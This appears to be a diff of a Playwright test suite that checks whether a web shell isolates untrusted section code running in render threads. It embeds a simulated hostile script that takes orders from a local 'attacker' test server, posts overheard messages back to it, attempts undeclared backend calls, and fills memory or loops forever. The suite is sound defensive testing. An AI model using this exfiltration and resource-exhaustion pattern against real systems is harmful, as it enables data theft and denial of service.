@@ -14,7 +14,7 @@ test.describe.configure({ mode: 'default', timeout: 120_000 });
 
 /** Runs in the render thread: `order` comes from the attacker's server at `url`. */
 const hostile = (url: string) => `
-const { parentPort } = process.getBuiltinModule('node:worker_threads');
+const { parentPort, threadId } = process.getBuiltinModule('node:worker_threads');
 const report = (what) => fetch('${url}', { method: 'POST', body: JSON.stringify(what) });
 parentPort.on('message', (message) => report({ overheard: message }));
 const call = (address, body) => new Promise((resolve) => {
@@ -38,8 +38,9 @@ const orders = {
     for (const posted of [null, 1, {}, { kind: 'loaded' }, { kind: 'ended', message: '' }, { kind: 'answer', id: 1, answer: {} }])
       parentPort.postMessage(posted);
   },
-  heap: () => { for (;;) held.push(new Array(1e5).fill({})); },
-  buffers: async () => { for (;;) { held.push(Buffer.alloc(50e6, 1)); await pause(); } },
+  thread: () => 'thread ' + threadId,
+  heap: () => { for (let n = 0; n < 150; n += 1) held.push(new Array(1e6).fill(1.5)); },
+  buffers: async () => { for (let n = 0; n < 24; n += 1) { held.push(Buffer.alloc(50e6, 1)); await pause(); } },
   loop: () => { for (;;); },
 };
 const obey = async () => {
@@ -54,24 +55,18 @@ type Order = { name: string; address?: string; body?: string };
 
 /** The attacker's own server. */
 async function startAttacker() {
-  let order: Order | undefined;
+  const orders: Order[] = [];
   const reports: string[] = [];
   const server = await createTestServer(async (request, response) => {
     let body = '';
     for await (const part of request) body += part;
     if (request.method === 'POST') reports.push(body);
+    // Each only once: the page may be rendered again, in another thread.
+    const order = request.method === 'GET' ? orders.shift() : undefined;
     response.end(JSON.stringify(order ?? null));
-    // Once: the page may be rendered again, in another thread.
-    if (request.method === 'GET') order = undefined;
   });
   await server.start();
-  return {
-    ...server,
-    reports,
-    give: (next: Order) => {
-      order = next;
-    },
-  };
+  return { ...server, reports, orders };
 }
 
 let attacker: Awaited<ReturnType<typeof startAttacker>>;
@@ -118,7 +113,7 @@ const statusOf = async (path: string) => (await fetch(shell.origin + path)).stat
 
 /** Has the section's page carry out an order. @returns what it reported */
 async function attack(order: Order): Promise<unknown> {
-  attacker.give(order);
+  attacker.orders.push(order);
   const before = attacker.reports.length;
   await fetch(`${shell.origin}/hostil`);
   const [result] = attacker.reports.slice(before).flatMap((text) => {
@@ -172,7 +167,9 @@ test('a section’s server code makes only the calls that it declares and is gra
   for (const order of calls)
     expect([order.address, await attack(order)]).toEqual([order.address, 'not a declared call']);
   // Pages may be rendered meanwhile, by the section's trial for example: their calls are below these.
-  expect(sent.slice(sentAt).filter((path) => !/^\/api\/(public-view|event-view)(\?populate|$)/.test(path))).toEqual([]);
+  expect(
+    sent.slice(sentAt).filter((path) => !/^\/api\/(public-view|event-view)(\?populate|$)/.test(path)),
+  ).toEqual([]);
   expect(shell.log()).toContain('a content call that it may not make');
   figure(`${calls.length} calls, ${calls.length} refused, 0 reached the backend`);
 });
@@ -186,29 +183,46 @@ test('a section’s server code can neither signal nor confuse the shell', async
   figure('no signal sent; 6 malformed messages dropped');
 });
 
+/** Two pages at once are rendered in different threads, unless one has yet to load. */
+async function untilBothThreadsRender() {
+  await expect
+    .poll(
+      async () => {
+        const before = attacker.reports.length;
+        attacker.orders.push({ name: 'thread' }, { name: 'thread' });
+        await Promise.all([statusOf('/hostil'), statusOf('/hostil')]);
+        return new Set(attacker.reports.slice(before).filter((text) => text.includes('thread '))).size;
+      },
+      { timeout: 30_000 },
+    )
+    .toBe(2);
+}
+
 for (const name of ['heap', 'buffers', 'loop']) {
   test(`a section’s server code that ${name === 'loop' ? 'loops' : `fills memory (${name})`} costs no other page`, async () => {
+    await untilBothThreadsRender();
     const before = shell.footprint().megabytes;
     const endings = () => shell.log().split('a render thread ended').length;
     const endingsBefore = endings();
     let isOver = false;
-    let most = 0;
     const statuses: number[] = [];
     const visits = (async () => {
       while (!isOver) {
         statuses.push(await statusOf('/contacto'));
-        most = Math.max(most, shell.footprint().megabytes);
         await wait(50);
       }
     })();
     await attack({ name });
     await expect.poll(endings, { timeout: 30_000 }).toBe(endingsBefore + 1);
-    await expect.poll(() => statusOf('/hostil')).toBe(200);
+    expect(await statusOf('/hostil')).toBe(200);
     isOver = true;
     await visits;
     expect(new Set(statuses)).toEqual(new Set([200]));
+    const most = shell.footprint().mostMegabytes;
     expect(most).toBeLessThan(before + 700);
-    figure(`its thread ended, ${statuses.length} pages beside it 200; memory ${before} MB, at most ${most} MB`);
+    figure(
+      `its thread ended, ${statuses.length} pages beside it 200; memory ${before} MB, at most ${most} MB`,
+    );
   });
 }
 
@@ -221,7 +235,9 @@ test('a section that changes what all objects inherit is refused at the first st
   const site = await startShell({ remotes: [polluting.row, ...rowsThrough(baseURL)], token });
   try {
     await expect
-      .poll(async () => (await site.readyz()).remotes.map(({ buildId }) => buildId !== null), { timeout: 30_000 })
+      .poll(async () => (await site.readyz()).remotes.map(({ buildId }) => buildId !== null), {
+        timeout: 30_000,
+      })
       .toEqual([false, true, true, true, true]);
     const { remotes } = await site.readyz();
     expect(remotes[0]?.refused?.reason).toContain('Cannot add property get');
